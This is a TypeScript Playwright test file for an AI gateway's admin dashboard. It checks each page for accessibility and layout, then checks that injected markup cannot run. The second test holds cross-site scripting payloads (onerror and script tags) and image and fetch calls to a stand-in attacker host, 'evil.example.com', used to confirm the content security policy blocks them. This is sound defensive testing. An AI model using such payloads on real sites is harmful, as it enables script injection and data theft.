import type { Page } from 'playwright-core'
import t from 'tap'
import { accessibilityProblems, noBrowser, openBrowser, openPage } from './browser.ts'
import { playDemo } from './demo.ts'
import { demoSession } from './demo-records.ts'
import { openStage, signIn } from './stage.ts'

t.setTimeout(900_000)

t.test('every page', { skip: noBrowser }, async t => {
  const stage = await openStage({ OPENAI_API_KEY: 'sk-demo' })
  t.teardown(stage.stop)
  const browser = await openBrowser()
  t.teardown(() => browser.close())
  const { keyId, responseId } = await playDemo(stage, 2_000)
  /** A text on each page once it has loaded. */
  const pages: Readonly<Record<string, string>> = {
    '': 'Requests per hour',
    '?by=provider&range=7d': 'Latency, p95',
    '?by=session&range=6h': 'By session',
    [`?session=${demoSession(7)}`]: 'Only the session',
    [`logs?session=${demoSession(7)}`]: 'echo',
    '?range=1h&org=nobody': 'No requests in this time',
    logs: 'Next page',
    'logs?status=402': 'No request matches',
    [`logs?record=${responseId}`]: '2 attempts',
    alerts: 'Nothing is open',
    keys: 'Website chat',
    [`keys?id=${keyId}`]: 'Effective policy',
    'keys?new=true': 'Create key',
    accounts: 'Globex',
    'accounts?level=team': 'Research',
    'accounts?level=org&id=acme': 'Save changes',
    'accounts?level=org&id=acme&tab=credit': 'No credit yet',
    models: 'What auto would choose',
    'models?model=echo': 'At north',
    'models?model=auto': 'Endpoints',
    providers: 'healthy',
    playground: 'More settings',
    'playground?do=decide': 'Add a question',
    settings: 'environment',
    nothing: 'There is no page',
  }
  for (const [view, options] of Object.entries({
    light: {},
    dark: { colorScheme: 'dark' },
    narrow: { width: 400, height: 800 },
  } as const)) {
    const { page, problems, settled } = await openPage(browser, stage.adminUrl, options)
    await page.goto(stage.adminUrl)
    await page.getByLabel('Admin token').waitFor()
    t.same(await accessibilityProblems(page), [], `signing in, ${view}`)
    await signIn(page, stage)
    await page.goto(stage.adminUrl)
    await page.getByRole('heading', { level: 1, name: 'Overview' }).waitFor()
    for (const [path, text] of Object.entries(pages)) {
      // Once each page is opened by its address, then as its links do, which takes less time.
      if (view === 'light') await page.goto(`${stage.adminUrl}/${path}`)
      else {
        await follow(page, 'nothing')
        await page.getByText('There is no page').waitFor()
        await follow(page, path)
      }
      await page.getByText(text).first().waitFor({ state: 'attached' })
      await settled()
      t.same(await accessibilityProblems(page), [], `/${path}, ${view}`)
      t.same(problems.splice(0), [], `/${path}, ${view}: nothing went wrong`)
      const overflow = await page.evaluate('document.documentElement.scrollWidth - innerWidth')
      t.ok(Number(overflow) <= 0, `/${path}, ${view}: nothing is beside the window`)
    }
    await page.context().close()
  }
})

async function follow(page: Page, path: string): Promise<void> {
  await page.evaluate(address => {
    const { history, dispatchEvent } = globalThis as any
    history.pushState(null, '', address)
    dispatchEvent(new Event('popstate'))
  }, `./${path}`)
}

t.test('scripts that somebody brings in do not run', { skip: noBrowser }, async t => {
  const stage = await openStage()
  t.teardown(stage.stop)
  const browser = await openBrowser()
  t.teardown(() => browser.close())
  const markup = '"><img src=x onerror="window.injected = true"><script>window.injected = true</script>'
  const { id, key } = await stage.call('POST', '/keys', {
    name: markup,
    policy: { logging: { value: true } },
    metadata: { [markup.slice(0, 64)]: markup },
  })
  await stage.call('POST', '/orgs', { id: 'acme', name: markup })
  const { id: responseId } = (await (
    await stage.ask(key, '/v1/responses', { model: 'sandbox/echo', input: markup, user: markup })
  ).json()) as {
    readonly id: string
  }
  await stage.ask(key, '/v1/responses', { model: markup, input: 'x' })
  const { page, problems, settled } = await openPage(browser, stage.adminUrl)
  await signIn(page, stage)
  const places = [
    '',
    '?by=key',
    `?team=${encodeURIComponent(markup)}`,
    'logs',
    `logs?record=${responseId}`,
    'keys',
    `keys?id=${id}`,
    'accounts',
    'settings',
  ]
  for (const path of [
    ...places,
    `models?model=${encodeURIComponent(markup)}`,
    `playground?key=${id}&model=${encodeURIComponent(markup)}`,
  ]) {
    await page.goto(`${stage.adminUrl}/${path}`)
    await page.getByRole('heading', { level: 1 }).waitFor()
    await settled()
    if (path.includes('record=')) {
      await page.getByRole('button', { name: 'Open the content' }).click()
      await page.getByRole('region', { name: 'Body of the request' }).waitFor()
    }
    await page.waitForLoadState('networkidle')
    t.equal(await page.evaluate('window.injected'), undefined, path)
  }
  t.same(problems.splice(0), [], 'all of it is text')

  await page.goto(stage.adminUrl)
  await page.getByRole('heading', { level: 1 }).waitFor()
  await page.evaluate(async () => {
    const { document, Image } = globalThis as any
    const violations = ((globalThis as any).violations = [] as string[])
    document.addEventListener('securitypolicyviolation', (event: any) => violations.push(event.effectiveDirective))
    const script = document.createElement('script')
    script.textContent = 'window.injected = true'
    const foreign = document.createElement('script')
    foreign.src = 'https://evil.example.com/x.js'
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example.com/'
    document.body.append(script, foreign, frame)
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="missing" onerror="window.injected = true"><a href="javascript:window.injected=true" id="trap">x</a>',
    )
    new Image().src = 'https://evil.example.com/?stolen'
    await fetch('https://evil.example.com/').catch(() => {})
    document.querySelector('#trap').click()
  })
  const isBlocked = (directive: string): boolean => (globalThis as any).violations.includes(directive)
  for (const directive of ['script-src-elem', 'script-src-attr', 'connect-src', 'img-src', 'frame-src'])
    await t.resolves(page.waitForFunction(isBlocked, directive), `${directive} was blocked`)
  t.equal(await page.evaluate('window.injected'), undefined)
})
